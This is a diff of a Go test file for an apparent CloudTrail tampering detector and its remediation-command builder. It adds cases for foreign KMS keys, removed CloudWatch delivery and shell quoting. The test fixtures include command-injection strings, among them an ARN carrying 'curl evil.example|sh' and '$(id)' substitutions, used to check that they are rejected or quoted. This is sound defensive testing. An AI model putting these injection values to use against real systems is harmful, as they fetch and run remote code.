@@ -20,6 +20,9 @@ import (
 const (
 	trailARN = "arn:aws:cloudtrail:eu-west-1:123456789012:trail/audit"
 	orgARN   = "arn:aws:cloudtrail:eu-west-1:999999999999:trail/org-audit"
+
+	ownKey     = "arn:aws:kms:eu-west-1:123456789012:key/2f0f1c55-0f7a-4f8e-9a53-8f6d6f1f6f01"
+	foreignKey = "arn:aws:kms:eu-west-1:666666666666:key/9b1d7c0e-8b7c-4d9e-9a53-0f6d6f1f6f02"
 )
 
 // record is the EventBridge event of a call to CloudTrail, in the shape of real ones.
@@ -52,6 +55,10 @@ var (
 	strengthened = update(`"isMultiRegionTrail":true,"enableLogFileValidation":true`, `"isMultiRegionTrail":true,"logFileValidationEnabled":true`)
 	weakened     = update(`"isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"enableLogFileValidation":false,"kmsKeyId":""`,
 		`"isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"logFileValidationEnabled":false`)
+	keyAway    = update(`"kmsKeyId":"`+foreignKey+`"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+foreignKey+`"`)
+	keyAlias   = update(`"kmsKeyId":"arn:aws:kms:eu-west-1:666666666666:alias/x"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+foreignKey+`"`)
+	keyChanged = update(`"kmsKeyId":"alias/audit"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+ownKey+`"`)
+	unwatched  = update(`"cloudWatchLogsLogGroupArn":"","cloudWatchLogsRoleArn":""`, `"isMultiRegionTrail":true`)
 	redirected = update(`"s3BucketName":"elsewhere"`, `"s3BucketName":"elsewhere","isMultiRegionTrail":true`)
 	blinded    = call("PutEventSelectors",
 		`{"trailName":"audit","eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false,"dataResources":[{"type":"AWS::S3::Object","values":[]}],"excludeManagementEventSources":[]}]}`,
@@ -83,8 +90,9 @@ func healthy() *trail {
 	return &trail{Logging: true, Trail: types.Trail{
 		Name: aws.String("audit"), TrailARN: aws.String(trailARN), HomeRegion: aws.String("eu-west-1"),
 		S3BucketName: aws.String("audit-logs"), IsMultiRegionTrail: aws.Bool(true), IncludeGlobalServiceEvents: aws.Bool(true),
-		LogFileValidationEnabled: aws.Bool(true), KmsKeyId: aws.String("arn:aws:kms:eu-west-1:123456789012:key/0f2f3b6f"),
-		HasInsightSelectors: aws.Bool(true), IsOrganizationTrail: aws.Bool(false), HasCustomEventSelectors: aws.Bool(false),
+		LogFileValidationEnabled: aws.Bool(true), KmsKeyId: aws.String(ownKey),
+		CloudWatchLogsLogGroupArn: aws.String("arn:aws:logs:eu-west-1:123456789012:log-group:audit:*"),
+		HasInsightSelectors:       aws.Bool(true), IsOrganizationTrail: aws.Bool(false), HasCustomEventSelectors: aws.Bool(false),
 	}, Selectors: []types.EventSelector{{ReadWriteType: types.ReadWriteTypeAll, IncludeManagementEvents: aws.Bool(true)}}}
 }
 
@@ -140,6 +148,8 @@ func stopped(t *trail)      { t.Logging = false }
 func removed(t *trail)      { t.Gone = true }
 func singleRegion(t *trail) { t.Trail.IsMultiRegionTrail = aws.Bool(false) }
 func elsewhere(t *trail)    { t.Trail.S3BucketName = aws.String("elsewhere") }
+func locked(t *trail)       { t.Trail.KmsKeyId = aws.String(foreignKey) }
+func unlogged(t *trail)     { t.Trail.CloudWatchLogsLogGroupArn = nil }
 func noInsights(t *trail)   { t.Trail.HasInsightSelectors = aws.Bool(false) }
 func shadow(t *trail)       { t.Trail.HomeRegion = aws.String("us-east-1") }
 func organisation(t *trail) { t.Trail.IsOrganizationTrail = aws.Bool(true) }
@@ -189,6 +199,9 @@ func Test(t *testing.T) {
 		acts("blinded by advanced selectors", blinded, dataOnly),
 		acts("weakened", weakened, bare),
 		acts("redirected", redirected, elsewhere),
+		acts("encrypted with another account's key", keyAway, locked),
+		acts("encrypted with another account's alias", keyAlias, locked),
+		acts("delivery to CloudWatch Logs removed", unwatched, unlogged),
 		acts("without insights", insights, noInsights),
 		idle("logging again", stopByName),
 		idle("the stop was refused", stopRefused, stopped),
@@ -200,6 +213,11 @@ func Test(t *testing.T) {
 		idle("changed in another way than its weakness", strengthened, singleRegion, noInsights),
 		idle("never had insights or a key", stopByName, bare, noInsights),
 		idle("bucket put back", redirected),
+		idle("key put back", keyAway),
+		idle("encrypted with another of its own keys", keyChanged),
+		idle("always had another account's key", strengthened, locked),
+		idle("delivery to CloudWatch Logs put back", unwatched),
+		idle("never delivered to CloudWatch Logs", strengthened, unlogged),
 		idle("insights put back", insights),
 	)
 }
@@ -253,24 +271,28 @@ func TestFinding(t *testing.T) {
 		fix       string // what the fix ends with
 	}{
 		{"stopped", stopByName, []func(*trail){stopped}, false, "the trail is not logging",
-			"aws cloudtrail start-logging --region eu-west-1 --name " + trailARN},
+			"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
 		{"stopped and blinded", stopByName, []func(*trail){stopped, readOnly}, false,
 			"the trail is not logging, and does not record all management events that write",
-			"aws cloudtrail start-logging --region eu-west-1 --name " + trailARN},
+			"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
 		{"shadow", stopByName, []func(*trail){stopped, shadow}, true,
-			`the trail is not logging; its home Region is "us-east-1", where it has to be restarted`, "--name " + trailARN},
+			`the trail is not logging; its home Region is "us-east-1", where it has to be restarted`, "--name '" + trailARN + "'"},
 		{"foreign", stopOrg, []func(*trail){stopped, foreign}, true,
-			"the trail is not logging; account 999999999999 owns it, and has to restart it", "--name " + orgARN},
+			"the trail is not logging; account 999999999999 owns it, and has to restart it", "--name '" + orgARN + "'"},
 		{"deleted", deleted, []func(*trail){removed}, true,
 			"the trail does not exist any more, and its settings are not in the record of its deletion",
-			"--name audit --s3-bucket-name BUCKET --is-multi-region-trail --enable-log-file-validation\n" +
-				"aws cloudtrail start-logging --region eu-west-1 --name " + trailARN},
+			"--name 'audit' --s3-bucket-name BUCKET --is-multi-region-trail --enable-log-file-validation\n" +
+				"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
 		{"blinded", blinded, []func(*trail){readOnly}, true, "the trail does not record all management events that write",
 			`--event-selectors '[{"ReadWriteType":"All","IncludeManagementEvents":true}]'`},
 		{"weakened", weakened, []func(*trail){bare}, true,
 			"the trail records one Region only, and leaves out global services such as IAM, and does not protect its log files against changes, and does not encrypt its log files with a KMS key",
 			"--kms-key-id KEY"},
 		{"redirected", redirected, []func(*trail){elsewhere}, true, "the trail was told to put its log files into bucket elsewhere", "--s3-bucket-name BUCKET"},
+		{"another account's key", keyAway, []func(*trail){locked}, true,
+			"the trail was told to encrypt its log files with " + foreignKey + ", a key of account 666666666666", "--kms-key-id KEY"},
+		{"unwatched", unwatched, []func(*trail){unlogged}, true, "the trail does not deliver its events to CloudWatch Logs",
+			"--cloud-watch-logs-log-group-arn LOG_GROUP_ARN --cloud-watch-logs-role-arn ROLE_ARN"},
 		{"insights", insights, []func(*trail){noInsights}, true, "the trail has its Insights off", "]'"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
@@ -300,6 +322,11 @@ func TestSuspects(t *testing.T) {
 		{"eu-west-1", `{"name":"arn:aws:cloudtrail:evil.example/x:123456789012:trail/audit"}`, `null`, ""},
 		{"eu-west-1", `{"name":"arn:aws:cloudtrail:eu-west-1:123456789012:eventdatastore/audit"}`, `null`, ""},
 		{"eu-west-1", `{"name":"arn:aws:cloudtrail"}`, `null`, ""},
+		{"eu-west-1", `{"name":"arn:aws$(id):cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
+		{"eu-west-1", `{"name":"arn:aws;curl evil.example|sh;:cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
+		{"eu-west-1", `{"name":"arn::cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
+		{"eu-west-1", `{"name":"audit"}`, `{"trailARN":"arn:aws-iso-b\n:cloudtrail:eu-west-1:123456789012:trail/audit"}`, ""},
+		{"us-isob-east-1", `{"name":"audit"}`, `null`, "arn:aws-iso-b:cloudtrail:us-isob-east-1:123456789012:trail/audit"},
 		{"eu-west-1", `{"name":{"nested":true}}`, `null`, ""},
 	} {
 		raw := []byte(strings.ReplaceAll(string(call("StopLogging", c.request, c.response)), `"region":"eu-west-1"`, `"region":"`+c.region+`"`))
@@ -318,6 +345,18 @@ func TestSuspects(t *testing.T) {
 		case got[0].Account != "123456789012" || got[0].Region != strings.Split(c.want, ":")[3]:
 			t.Errorf("%s: %+v", c.request, got[0])
 		}
+	}
+}
+
+// Whatever a trail's name may become one day, the shell gets it as one word.
+func TestCommandQuotes(t *testing.T) {
+	r := remediations.Resource{Region: "eu;west", ID: `a'$(id)' b`}
+	want := `aws cloudtrail start-logging --region 'eu;west' --name 'a'\''$(id)'\'' b'`
+	if got := command(r, "start-logging", "--name"); got != want {
+		t.Errorf("got %s, want %s", got, want)
+	}
+	if got := gone(r, "x`id`").Fix; strings.Count(got, "--region 'eu;west'") != 3 || !strings.Contains(got, "--name 'x`id`'") {
+		t.Errorf("fix:\n%s", got)
 	}
 }
 
